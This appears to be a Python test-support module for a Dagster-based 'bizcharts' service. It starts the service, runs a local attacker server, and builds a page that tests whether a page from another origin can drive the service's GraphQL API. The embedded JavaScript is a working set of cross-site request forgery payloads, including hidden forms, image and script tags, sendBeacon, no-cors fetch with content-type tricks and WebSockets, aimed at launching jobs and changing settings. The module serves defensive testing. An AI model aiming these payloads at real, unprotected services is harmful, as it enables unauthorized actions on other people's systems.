"""The service as an operator starts it, an attacking page of another origin, and a server that shows what it sends."""

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import quote

import requests
from installation import REPOSITORY, Installation
from ports import free_port

START_SECONDS = 240
LAUNCH = (
    'mutation{launchRun(executionParams:{selector:{repositoryLocationName:"bizcharts",repositoryName:"__repository__",'
    'jobName:"fetch_reference_index"},runConfigData:"{}"}){__typename ... on PythonError{message}}}'
)
# Each attack tries to set the limit of a key of its own, whose presence would give it away.
NAMES = (
    "img",
    "script",
    "iframe",
    "prefetch",
    "urlencoded",
    "multipart",
    "plain",
    "beacon",
    "no-cors",
    "trick",
    "json",
)


def limit(key: str) -> str:
    return f'mutation{{setConcurrencyLimit(concurrencyKey:"{key}",limit:1)}}'


@dataclass
class Service:
    """One ``bizcharts serve`` and what may be asked of it as a program on this machine."""

    installation: Installation
    port: int
    headers: dict[str, str] = field(default_factory=dict)
    pid: int = 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def send(self, query: str) -> requests.Response:
        return requests.post(f"{self.url}/graphql", json={"query": query}, headers=self.headers, timeout=60)

    def ask(self, query: str) -> Any:
        return self.send(query).json()["data"]

    def limits(self) -> set[str]:
        found = self.ask("{instance{concurrencyLimits{concurrencyKey}}}")["instance"]["concurrencyLimits"]
        return {each["concurrencyKey"] for each in found}

    def runs(self, job: str) -> list[dict[str, str]]:
        found = self.ask(f'{{runsOrError(filter:{{pipelineName:"{job}"}}){{... on Runs{{results{{runId status}}}}}}}}')
        return list(found["runsOrError"]["results"])

    def materializations(self, asset: str) -> int:
        reported = "... on Asset{assetMaterializations{timestamp}}"
        found = self.ask(f'{{assetOrError(assetKey:{{path:["{asset}"]}}){{{reported}}}}}')
        return len(found["assetOrError"].get("assetMaterializations", []))

    def schedule_states(self) -> set[str]:
        repository = '{repositoryLocationName:"bizcharts",repositoryName:"__repository__"}'
        states = "... on Schedules{results{scheduleState{status}}}"
        found = self.ask(f"{{schedulesOrError(repositorySelector:{repository}){{{states}}}}}")
        return {each["scheduleState"]["status"] for each in found["schedulesOrError"]["results"]}


@contextmanager
def serving(installation: Installation, *words: str) -> Iterator[Service]:
    """Run the service until its UI answers, and stop it at the end."""
    port = free_port()
    installation.extra["BIZCHARTS_SERVE__PORT"] = str(port)
    password = installation.extra.get("BIZCHARTS_UI_PASSWORD")
    service = Service(installation, port, {"Authorization": f"Bearer {password}"} if password else {})
    log = installation.folder / "service.log"
    with log.open("ab") as written:
        process = subprocess.Popen(
            [sys.executable, "-c", "from bizcharts_pipeline.cli.main import main; main()", "serve", *words],
            cwd=REPOSITORY,
            env=installation.environment(None),
            stdout=written,
            stderr=written,
        )
    service.pid = process.pid
    try:
        until(lambda: _answers(service, process, log), START_SECONDS)
        yield service
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(60)


@contextmanager
def unguarded(folder: Path) -> Iterator[Service]:
    """Run Dagster's own web server with a history of its own, as without this project's service."""
    service, log = Service(Installation(folder, "http://127.0.0.1:9"), free_port()), folder / "web.log"
    (folder / "dagster.yaml").write_text("telemetry: {enabled: false}\n")
    command = [sys.executable, "-m", "dagster_webserver", "-p", str(service.port), "--empty-workspace"]
    with log.open("ab") as written:
        environment = {**os.environ, "DAGSTER_HOME": str(folder)}
        process = subprocess.Popen(command, cwd=folder, env=environment, stdout=written, stderr=written)
    try:
        until(lambda: _answers(service, process, log), START_SECONDS)
        yield service
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(60)


def _answers(service: Service, process: "subprocess.Popen[bytes]", log: Path) -> bool:
    assert process.poll() is None, log.read_text()[-3000:]
    try:
        return bool(service.ask("{version}"))
    except requests.ConnectionError:
        return False


def listening_ports(pid: int) -> set[int]:
    """The TCP ports at which the process and those below it listen."""
    parents = {}
    for entry in Path("/proc").glob("[0-9]*/stat"):
        with suppress(OSError):
            parents[int(entry.parent.name)] = int(entry.read_text().rpartition(")")[2].split()[1])
    family = {pid}
    while more := {child for child, parent in parents.items() if parent in family} - family:
        family |= more
    sockets = set()
    for member in family:
        for file in Path(f"/proc/{member}/fd").glob("*"):
            with suppress(OSError):
                sockets.add(os.readlink(file))
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for row in (line.split() for line in Path(table).read_text().splitlines()[1:]):
            if row[3] == "0A" and f"socket:[{row[9]}]" in sockets:
                ports.add(int(row[1].rpartition(":")[2], 16))
    return ports


def until(condition: Any, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, f"not within {seconds:g} s"
        time.sleep(0.3)


class Attacker(ThreadingHTTPServer):
    """Serves the attacking page, and is a second target that notes every request it gets."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.seen: list[str] = []  # method, address and body
        self.page = ""

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class _Handler(BaseHTTPRequestHandler):
    server: Attacker

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""

    def do_GET(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("latin-1")
        if self.path == "/attack":
            self.reply(self.server.page.encode())
        else:
            self.server.seen.append(f"{self.command} {self.path} {self.headers.get('Upgrade', '')} {body}")
            self.reply(b"seen")

    do_POST = do_OPTIONS = do_GET

    def reply(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@contextmanager
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


_ATTACK = """
const {targets, documents, launch} = given;
window.got = []; window.opened = [];
const wait = [];
function element(tag, attributes) {
  const made = Object.assign(document.createElement(tag), attributes); document.body.append(made); return made;
}
function form(target, name, enctype, address, fields) {
  element("iframe", {name: target + name});
  const made = element("form", {method: "POST", enctype, action: address, target: target + name});
  for (const [key, value] of Object.entries(fields)) {
    const input = document.createElement("textarea"); input.name = key; input.value = value; made.append(input);
  }
  made.submit();
}
const json = name => JSON.stringify({query: documents[name]});
for (const target of targets) {
  const graphql = target + "/graphql", get = name => graphql + "?query=" + encodeURIComponent(documents[name]);
  element("img", {src: get("img")}); element("img", {src: graphql + "?query=" + launch});
  element("script", {src: get("script")}); element("iframe", {src: get("iframe")});
  element("link", {rel: "prefetch", href: get("prefetch")});
  form(target, "urlencoded", "application/x-www-form-urlencoded", get("urlencoded"), {query: documents.urlencoded});
  form(target, "multipart", "multipart/form-data", get("multipart"), {query: documents.multipart});
  form(target, "plain", "text/plain", get("plain"), {['{"query":' + JSON.stringify(documents.plain) + ',"x":"']: '"}'});
  form(target, "launch", "application/x-www-form-urlencoded", graphql + "?query=" + launch, {});
  navigator.sendBeacon(get("beacon"), new Blob([json("beacon")], {type: "text/plain"}));
  const sends = [
    [get("no-cors"), {method: "POST", mode: "no-cors", body: json("no-cors"), credentials: "include"}],
    [graphql, {method: "POST", mode: "no-cors", body: json("trick"),
               headers: {"Content-Type": "text/plain;a=application/json"}}],
    [graphql, {method: "POST", mode: "cors", body: json("json"), headers: {"Content-Type": "application/json"}}],
    [target + "/report_asset_materialization/attacked", {method: "POST", mode: "no-cors"}],
    [graphql + "?query=" + encodeURIComponent("{version}"), {mode: "cors"}],
    [target + "/server_info", {mode: "cors", credentials: "include"}], [target + "/server_info", {mode: "no-cors"}],
  ];
  for (const [address, options] of sends)
    wait.push(fetch(address, options).then(r => r.text()).then(t => { if (t) got.push([address, t]); }, () => {}));
  wait.push(new Promise(done => {
    const ws = new WebSocket(graphql.replace("http", "ws"), "graphql-ws");
    ws.onopen = () => { opened.push(graphql); done(); }; ws.onerror = ws.onclose = done;
  }));
}
Promise.all(wait).then(() => { window.done = true; });
"""


def attack_page(targets: Sequence[str]) -> str:
    """A page that tries, on each target, whatever a page can send; ``window.got`` is what it could read."""
    documents = {name: limit(name) for name in NAMES}
    launch = quote(LAUNCH)
    values = json.dumps({"targets": list(targets), "documents": documents, "launch": launch})
    return f'<!doctype html><meta charset="utf-8"><body><script>const given = {values};{_ATTACK}</script>'
